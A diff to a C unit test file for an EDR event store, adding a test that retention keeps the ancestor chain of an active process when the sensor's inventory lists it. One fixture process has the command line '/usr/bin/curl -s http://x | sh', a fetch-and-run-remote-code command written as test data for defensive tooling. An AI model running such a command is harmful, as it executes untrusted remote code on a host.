@@ -2063,6 +2063,120 @@ static void test_refresh_after_flush(void **state)
     edr_frame_ctx_destroy(enc);
 }
 
+/* One batch of host hid at time t: an exec of exe by ent (child of par),
+ * or, with exe NULL, the sensor's inventory listing the n processes of
+ * ids[] with their parents pars[]; committed. */
+static void add_chain_batch(edr_store_writer_t *w, edr_frame_ctx_t *enc, const uint8_t hid[16],
+                            uint64_t seq, uint64_t t, const uint8_t *ent, const uint8_t *par,
+                            const char *exe, uint8_t (*ids)[16], uint8_t (*pars)[16], size_t n)
+{
+    Edr__V1__SensorInfo si = EDR__V1__SENSOR_INFO__INIT;
+    si.host_id.data = (uint8_t *)hid;
+    si.host_id.len = 16;
+    si.hostname = "chain-host";
+    Edr__V1__ProcessStart ps = EDR__V1__PROCESS_START__INIT;
+    Edr__V1__ProcessInventory inv = EDR__V1__PROCESS_INVENTORY__INIT;
+    Edr__V1__ProcessInventory__Entry en[8], *enp[8];
+    Edr__V1__Event e = EDR__V1__EVENT__INIT, *ev = &e;
+    if (exe) {
+        ps.exe = ps.command_line = (char *)exe;
+        e.entity_id.data = (uint8_t *)ent;
+        e.entity_id.len = 16;
+        e.parent_entity_id.data = (uint8_t *)par;
+        e.parent_entity_id.len = par ? 16 : 0;
+        e.pid = ent[0];
+        e.body_case = EDR__V1__EVENT__BODY_PROCESS_START;
+        e.process_start = &ps;
+    } else {
+        for (size_t i = 0; i < n; i++) {
+            edr__v1__process_inventory__entry__init(&en[i]);
+            en[i].entity_id.data = ids[i];
+            en[i].entity_id.len = 16;
+            en[i].parent_entity_id.data = pars[i];
+            en[i].parent_entity_id.len = i ? 16 : 0; /* the first: pid 1 */
+            enp[i] = &en[i];
+        }
+        inv.processes = enp;
+        inv.n_processes = n;
+        e.body_case = EDR__V1__EVENT__BODY_PROCESS_INVENTORY;
+        e.process_inventory = &inv;
+    }
+    Edr__V1__EventBatch b = EDR__V1__EVENT_BATCH__INIT;
+    b.schema_version = 1;
+    b.sensor = &si;
+    b.seq = seq;
+    b.base_time_ns = t;
+    b.n_events = 1;
+    b.events = &ev;
+    const uint8_t *fr;
+    size_t fl;
+    Edr__V1__EventBatch *d;
+    edr_frame_ctx_t *dec = edr_frame_ctx_new(NULL);
+    assert_int_equal(edr_frame_encode(enc, &b, 0, &fr, &fl), 0);
+    assert_int_equal(edr_frame_decode(dec, fr, fl, &d), 0); /* as the collector has it */
+    assert_int_equal(edr_store_writer_add(w, fr, fl, d), 0);
+    assert_int_equal(edr_store_writer_commit(w), 0);
+    edr_frame_ctx_destroy(dec);
+}
+
+static int count_rec(const Edr__V1__ProcessRecord *p, void *ud)
+{
+    (void)p;
+    (*(int *)ud)++;
+    return 0;
+}
+
+/* Retention keeps the running ancestors of an active process while their
+ * sensor lists them. init -> sshd -> session -> bash started in hour 0 and
+ * only fork; a command of bash acts in hour 5; retention keeps hours 3 and
+ * up. Without an inventory the command's ancestry ended at bash (the
+ * records of session, sshd and init retired: each kept only while a child
+ * of its own acted, review-1206k 2) and sshd's children went with its
+ * entry; with the sensor's inventory of hour 4 the whole chain stays, with
+ * every parent's children. */
+static void test_retention_keeps_running_ancestors(void **state)
+{
+    (void)state;
+    char err[512], sub[600];
+    const uint64_t t0 = 1767225600000000000ull, hr = EDR_STORE_BUCKET_NS;
+    uint8_t hid[16] = {0xaa}, ids[5][16], pars[5][16];
+    for (int i = 0; i < 5; i++) {
+        memset(ids[i], 0xa0 + 0x10 * i, 16);
+        if (i) memcpy(pars[i], ids[i - 1], 16);
+    }
+    static const char *const exes[5] = {"/sbin/init", "/usr/sbin/sshd", "sshd: alice [priv]",
+                                        "/bin/bash", "/usr/bin/curl -s http://x | sh"};
+    edr_frame_ctx_t *enc = edr_frame_ctx_new(NULL);
+    for (int inventory = 0; inventory < 2; inventory++) {
+        snprintf(sub, sizeof(sub), "%s/%d", dir, inventory);
+        edr_store_writer_t *w = edr_store_writer_open(sub, 0, NULL, err, sizeof(err));
+        assert_non_null(w);
+        uint64_t seq = 1;
+        for (int i = 0; i < 4; i++)
+            add_chain_batch(w, enc, hid, seq++, t0 + (uint64_t)i, ids[i], i ? pars[i] : NULL,
+                            exes[i], NULL, NULL, 0);
+        if (inventory)
+            add_chain_batch(w, enc, hid, seq++, t0 + 4 * hr, NULL, NULL, NULL, ids, pars, 4);
+        add_chain_batch(w, enc, hid, seq++, t0 + 5 * hr, ids[4], pars[4], exes[4], NULL, NULL, 0);
+        assert_int_equal(edr_store_writer_retire(w, t0 + 3 * hr), 0);
+        assert_int_equal(edr_store_writer_compact(w), 0);
+        assert_int_equal(edr_store_writer_compact(w), 0);
+        edr_store_writer_destroy(w);
+        edr_store_t *r = edr_store_open(sub, NULL, err, sizeof(err));
+        assert_non_null(r);
+        int n = 0;
+        assert_int_equal(edr_store_process_ancestry(r, ids[4], 0, count_rec, &n), 0);
+        assert_int_equal(n, inventory ? 5 : 2);
+        for (int i = 0; i < 4; i++) {
+            int kids = 0;
+            assert_int_equal(edr_store_process_children(r, ids[i], count_rec, &kids), 0);
+            if (inventory || i == 3) assert_int_equal(kids, 1);
+        }
+        edr_store_destroy(r);
+    }
+    edr_frame_ctx_destroy(enc);
+}
+
 /* Process records packed by proc_pack.c are byte for byte protobuf-c's own
  * packing and decode to what was packed, over records with every field zero
  * or set in turn (negative exit codes: ten-byte varints,
@@ -2071,7 +2185,7 @@ static void test_refresh_after_flush(void **state)
 static void test_proc_record_pack(void **state)
 {
     (void)state;
-    assert_int_equal(edr__v1__process_record__descriptor.n_fields, 20);
+    assert_int_equal(edr__v1__process_record__descriptor.n_fields, 21);
     static uint8_t id[16], par[16], host[16], sha[32], fb[BREF_LEN], lb[BREF_LEN];
     static const char *const strs[] = {NULL, "", "/usr/bin/x", "a\nb \"quoted\" \xc3\xa9"};
     uint64_t rng = 88172645463325252ull;
@@ -2103,6 +2217,7 @@ static void test_proc_record_pack(void **state)
         r.exit_signal = bits >> 13 & 1 ? (bits >> 14 & 1 ? INT32_MIN : 9) : 0;
         r.exec_count = bits >> 15 & 1 ? 3 : 0;
         r.child_bucket = bits >> 16 & 1 ? 493000 : 0;
+        r.alive_bucket = bits >> 27 & 1 ? 493001 : 0;
         r.exe = (char *)strs[bits >> 17 & 3];
         r.command_line = (char *)strs[bits >> 19 & 3];
         r.cwd = (char *)strs[bits >> 21 & 3];
@@ -2167,6 +2282,7 @@ int main(int argc, char **argv)
         cmocka_unit_test(test_proc_record_pack),
         cmocka_unit_test_setup_teardown(test_reader_damaged_store, setup, teardown),
         cmocka_unit_test_setup_teardown(test_refresh_after_flush, setup, teardown),
+        cmocka_unit_test_setup_teardown(test_retention_keeps_running_ancestors, setup, teardown),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
